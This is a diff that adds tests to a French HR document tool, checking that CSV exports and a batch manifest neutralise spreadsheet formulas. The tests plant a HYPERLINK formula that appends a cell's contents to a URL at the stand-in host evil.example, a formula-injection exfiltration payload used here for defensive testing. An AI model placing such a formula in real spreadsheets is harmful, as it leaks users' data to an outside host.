@@ -119,6 +119,52 @@ def test_due_as_json_and_csv_carry_the_abondement():
     assert all(row["libelle"] == row["libelle"].strip() and "…" not in row["libelle"] for row in rows)
 
 
+HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Cliquez ici")'
+
+
+def test_due_as_csv_neutralises_a_formula_in_an_employee_name(tmp_path):
+    import csv as csv_module
+
+    text = (SAMPLES / "employees.csv").read_text(encoding="utf-8")
+    text = text.replace("E0009,M.,Girard,Théo,", f'E0009,M.,"{HYPERLINK.replace(chr(34), chr(34) * 2)}",@Théo,')
+    (tmp_path / "employees.csv").write_text(text, encoding="utf-8")
+    result = invoke("due", "--before", "2027-03-31", "--le", "2026-11-26", "--data", tmp_path, "--format", "csv")
+    assert result.exit_code == 0, result.output
+
+    rows = {row["matricule"]: row for row in csv_module.DictReader(io.StringIO(result.output))}
+    assert (rows["E0009"]["nom"], rows["E0009"]["prenom"]) == ("'" + HYPERLINK, "'@Théo")
+
+
+def test_the_batch_manifest_neutralises_a_formula_in_a_matricule(tmp_path):
+    """The manifest of `parcours batch` and `demo` names employees by matricule: one that is a formula is text."""
+    import csv as csv_module
+
+    from docgen.dataset import load_dataset
+    from docgen.values import load_values
+    from parcours.cli.documents import run_batch
+
+    class NoPool:  # every employee fails before conversion: LibreOffice is never asked
+        size = 1
+
+    text = (SAMPLES / "employees.csv").read_text(encoding="utf-8")
+    text = text.replace("\nE0009,", "\n\"" + HYPERLINK.replace('"', '""') + "\",", 1)
+    dataset = load_dataset(text.encode(), names={"employees": "employees.csv"}).dataset
+    values = load_values({**values_json(), "salaries": {HYPERLINK: {"entretien": {"heure": "99:00"}}}})
+
+    summary = run_batch((resources.DOCUMENTS / "convocation.docx").read_bytes(), "convocation.docx", dataset,
+                        values, tmp_path / "out", matricules=[HYPERLINK], pool=NoPool())
+
+    assert summary.failed == 1
+    [row] = list(csv_module.DictReader(io.StringIO(summary.manifest.read_text(encoding="utf-8"))))
+    assert row["matricule"] == "'" + HYPERLINK and "entretien.heure" in row["erreur"]
+
+
+def values_json():
+    import json
+
+    return json.loads((SAMPLES / "campagne.json").read_text(encoding="utf-8"))
+
+
 def test_error_messages_name_only_the_options_the_command_has(tmp_path):
     bad = tmp_path / "employees.csv"
     bad.write_text((SAMPLES / "employees.csv").read_text(encoding="utf-8").replace("1975-03-14", "1975-13-14"),
